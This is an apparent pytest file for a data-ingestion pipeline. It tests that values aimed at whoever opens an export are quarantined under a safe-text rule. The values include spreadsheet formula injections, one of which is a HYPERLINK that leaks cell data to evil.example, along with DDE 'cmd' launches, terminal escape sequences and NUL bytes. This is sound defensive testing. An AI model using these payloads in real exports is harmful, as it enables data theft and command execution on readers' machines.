"""Values that attack whoever opens an export (issue 15 #4): spreadsheet formulas, NUL bytes,
terminal escape sequences and megabyte codes are quarantined by `<column>_is_safe_text`, naming
the column, while ordinary codes that merely contain a sign or a tab load."""

from __future__ import annotations

import pytest
import sqlalchemy as sa

from dataset_contracts.contracts import get_contract
from tests.expectations.fixtures import MAPPINGS, clean_rows, fixture_name, write_csv
from tests.expectations.test_release import MED, SPELLS, _ingest, site_yaml
from tests.robustness.cli import assert_accounted

# administration_id -> patient_ref delivered; every one of these is quarantined
ATTACKS = {
    "formula =HYPERLINK": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "formula +cmd": "+cmd|' /C calc'!A0",
    "formula @SUM": "@SUM(1+9)*cmd|' /C calc'!A0",
    "formula -2+3": "-2+3+cmd|' /C calc'!A0",
    "NUL byte": "P\x000001",
    "ESC sequence": "\x1b[2J\x1b[31mP0001",
    "C1 CSI": "P0001\x9b31m",
    "line break": "P0001\r\nP0002",
    "1 MB code": "P" + "9" * 1_000_000,
}
# values that look odd but are harmless: they load
HARMLESS = {"lone dash": "-", "inner dash": "P-0001", "signed number": "-5", "tab inside": "P\t0001"}


def _site(tmp_path, values: dict[str, str]):
    drop, sites = tmp_path / "drop", tmp_path / "sites"
    rows = clean_rows(MED, n=200)  # 9 attacks stay under the 5% that would hold the batch
    for i, value in enumerate(values.values()):
        rows[i]["patient_ref"] = value
    write_csv(drop / MED / fixture_name(MED), get_contract(MED), rows)
    write_csv(drop / SPELLS / fixture_name(SPELLS), get_contract(SPELLS), clean_rows(SPELLS, n=5))
    site_yaml(sites, drop, MAPPINGS)
    return sites, {f"MA{i:05d}": case for i, case in enumerate(values)}


def _quarantined(wh, batch_id) -> dict[str, tuple[str, str]]:
    with wh.engine.connect() as c:
        rows = c.execute(
            sa.text(
                "select administration_id, _failed_rules, patient_ref from quarantine.medication_administrations "
                "where _batch_id = :b"
            ),
            {"b": batch_id},
        ).fetchall()
    return {r[0]: (r[1], r[2]) for r in rows}


def test_attacks_in_text_columns_are_quarantined_naming_the_column(home, tmp_path):
    sites, cases = _site(tmp_path, {**ATTACKS, **HARMLESS})
    outcome, wh = _ingest(sites, "epma")
    assert outcome.status == "loaded", outcome.reason
    assert outcome.rows_in == outcome.rows_loaded + outcome.rows_quarantined == 200
    assert_accounted(wh, outcome.batch_id)
    found = _quarantined(wh, outcome.batch_id)
    assert {cases[k] for k in found} == set(ATTACKS)
    assert {rules for rules, _ in found.values()} == {"patient_ref_is_safe_text"}
    by_case = {cases[k]: value for k, (_, value) in found.items()}
    assert by_case["NUL byte"] == "P\u24000001"  # kept, visibly, where the NUL was
    assert by_case["ESC sequence"] == ATTACKS["ESC sequence"]  # the original value, as delivered
    assert len(by_case["1 MB code"]) == 1_000_001
    staged = wh.query("select patient_ref from staging.medication_administrations where administration_id in "
                      "('MA00009', 'MA00010', 'MA00011', 'MA00012')")["patient_ref"]  # fmt: skip
    assert sorted(staged) == sorted(HARMLESS.values())


@pytest.mark.postgres
def test_a_nul_byte_no_longer_fails_a_postgresql_load(home, tmp_path, pg_url, monkeypatch):
    # PostgreSQL cannot store a NUL in text: before harmonise neutralised it, COPY failed the batch.
    monkeypatch.setenv("BENEFITS_WAREHOUSE_URL", pg_url)
    sites, _ = _site(tmp_path, {"NUL byte": ATTACKS["NUL byte"]})
    outcome, wh = _ingest(sites, "epma")
    assert (outcome.status, outcome.rows_loaded, outcome.rows_quarantined) == ("loaded", 199, 1)
    assert_accounted(wh, outcome.batch_id)
    assert _quarantined(wh, outcome.batch_id) == {"MA00000": ("patient_ref_is_safe_text", "P\u24000001")}
